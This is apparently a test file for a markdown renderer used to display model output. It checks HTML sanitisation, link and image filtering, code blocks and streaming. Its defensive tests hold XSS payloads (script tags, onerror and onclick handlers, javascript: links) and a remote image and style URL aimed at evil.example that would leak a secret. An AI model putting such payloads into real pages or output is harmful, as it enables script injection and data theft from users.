import { beforeAll, describe, expect, test } from 'vitest';
import { nextChunk } from '../../components/markdown/markdown-chunks.js';
import { loadMarkdown } from '../../components/markdown/markdown-loader.js';
import { MarkdownView } from '../../components/markdown/markdown-view.js';
import {
  createMarkdownRenderer,
  type RenderMarkdown,
} from '../../components/markdown/render-markdown.js';
import { hasNativeSanitizer } from '../../components/markdown/sanitize-html.js';

test('this Chromium has the HTML Sanitizer API, so both sanitisers below are tested', () => {
  expect(hasNativeSanitizer()).toBe(true);
});

// Every case runs with the browser's own sanitiser and with the DOMPurify fallback.
describe.each(['native', 'dompurify'] as const)(
  'renderMarkdown with the %s sanitiser',
  (sanitizer) => {
    let renderMarkdown: RenderMarkdown;
    beforeAll(async () => {
      renderMarkdown = await createMarkdownRenderer({ sanitizer });
    });

    function html(markdown: string, options = {}): HTMLElement {
      const container = document.createElement('div');
      container.append(renderMarkdown(markdown, options));
      return container;
    }

    test('renders markdown: emphasis, lists, tables, inline code', () => {
      const out = html('**bold** and `code`\n\n- a\n- b\n\n| x | y |\n|---|---|\n| 1 | 2 |');
      expect(out.querySelector('strong')?.textContent).toBe('bold');
      expect(out.querySelectorAll('li')).toHaveLength(2);
      expect(out.querySelector('td')?.textContent).toBe('1');
      expect(out.querySelector('p code')?.textContent).toBe('code');
    });

    test('shows raw HTML as text: no script, no handlers, no iframes', () => {
      const out = html(
        '<script>window.__x = 1</script>\n\n<img src=x onerror="window.__x = 2"> <iframe src="https://evil.example"></iframe> <b onclick="1">b</b>',
      );
      expect(out.querySelector('script, img, iframe, [onclick], [onerror]')).toBeNull();
      expect(out.textContent).toContain('<img src=x onerror=');
      expect((window as { __x?: unknown }).__x).toBeUndefined();
    });

    test('drops javascript:, data: and relative link targets; real links open safely', () => {
      const out = html(
        '[a](javascript:alert(1)) [b](data:text/html,<b>x</b>) [c](/relative) [d](https://example.com/page) [e](mailto:me@example.com)',
      );
      const links = [...out.querySelectorAll('a')];
      expect(links.map((link) => link.getAttribute('href'))).toEqual([
        null,
        null,
        null,
        'https://example.com/page',
        'mailto:me@example.com',
      ]);
      for (const link of links) {
        expect(link.rel).toBe('noopener noreferrer');
        expect(link.target).toBe('_blank');
      }
    });

    test('blocks remote images unless allowed, keeps data: images', () => {
      const png = 'data:image/png;base64,iVBORw0KGgo=';
      const blocked = html(`![leak](https://evil.example/p.png?secret=1) ![dot](${png})`);
      expect(blocked.querySelectorAll('img')).toHaveLength(1);
      expect(blocked.querySelector('img')?.getAttribute('src')).toBe(png);
      expect(blocked.querySelector('.blocked-image')?.textContent).toContain('leak');
      expect(
        performance
          .getEntriesByType('resource')
          .some((entry) => entry.name.includes('evil.example')),
      ).toBe(false);

      const allowed = html('![pic](https://example.com/p.png)', { allowRemoteImages: true });
      expect(allowed.querySelector('img')?.getAttribute('src')).toBe('https://example.com/p.png');
      expect(allowed.querySelector('img')?.getAttribute('referrerpolicy')).toBe('no-referrer');
    });

    test('no styles or arbitrary classes from the model', () => {
      const out = html(
        '```js\nlet x = 1;\n```\n\n<span style="background:url(https://evil.example)" class="x">s</span>',
      );
      expect(out.querySelector('[style]')).toBeNull();
      expect(out.querySelector('code')?.className).toBe('language-js');
    });

    test('code blocks get a language label and a copy button', () => {
      const out = html('```python\nprint(1)\n```');
      const block = out.querySelector('.code-block');
      expect(block?.querySelector('.code-bar span')?.textContent).toBe('python');
      expect(block?.querySelector('button[data-copy]')?.getAttribute('aria-label')).toBe(
        'Copy python code',
      );
      expect(block?.querySelector('pre')?.textContent).toBe('print(1)\n');
    });
  },
);

/** Where the chunk of `text` from `from` ends while the text still streams. */
const frozen = (text: string, from = 0): number =>
  nextChunk(text, from, { final: false, fence: undefined }).end;

describe('nextChunk while streaming', () => {
  test('ends after the last blank line followed by a new block', () => {
    const text = 'para one\n\npara two\n\npara thr';
    expect(text.slice(frozen(text))).toBe('para thr');
  });

  test('is the start while no block is complete', () => {
    expect(frozen('just one growing paragraph')).toBe(0);
    expect(frozen('a\n\n')).toBe(0);
  });

  test('never splits inside a code fence', () => {
    const text = 'intro\n\n```\nline 1\n\nline 2\n';
    expect(text.slice(frozen(text))).toBe('```\nline 1\n\nline 2\n');
    const closed = `${text}\`\`\`\n\nafter`;
    expect(closed.slice(frozen(closed))).toBe('after');
  });

  test('keeps indented continuations with their block', () => {
    expect(frozen('- item\n\n  more of the item\n')).toBe(0);
  });

  test('starts from a previous boundary', () => {
    const text = 'one\n\ntwo\n\nthree';
    const first = frozen('one\n\ntwo');
    expect(text.slice(frozen(text, first))).toBe('three');
  });

  test('once finished, the rest is the last chunk', () => {
    expect(nextChunk('one\n\ntwo', 5, { final: true, fence: undefined }).end).toBe(8);
  });
});

describe('MarkdownView', () => {
  beforeAll(async () => {
    await loadMarkdown();
  });

  test('streams: finished blocks keep their DOM nodes, only the last block changes', () => {
    const view = new MarkdownView({});
    const element = view.element;
    view.append('# Title\n\nFirst para');
    view.append('graph.\n\nSecond');
    const firstBlock = element.querySelector('.block');
    expect(firstBlock?.textContent).toContain('Title');

    view.append(' paragraph grows');
    view.append(' more');
    expect(element.querySelector('.block')).toBe(firstBlock);
    expect(element.textContent).toContain('Second paragraph grows more');

    view.finish();
    expect(element.querySelector('h1')?.textContent).toBe('Title');
    expect(element.querySelectorAll('p')).toHaveLength(2);
    expect(view.text).toBe('# Title\n\nFirst paragraph.\n\nSecond paragraph grows more');
  });

  test('renders nothing until its element is asked for, then the whole text', () => {
    const view = new MarkdownView({ text: 'Some *stored* answer', finished: true });
    expect(view.element.querySelector('em')?.textContent).toBe('stored');
  });
});
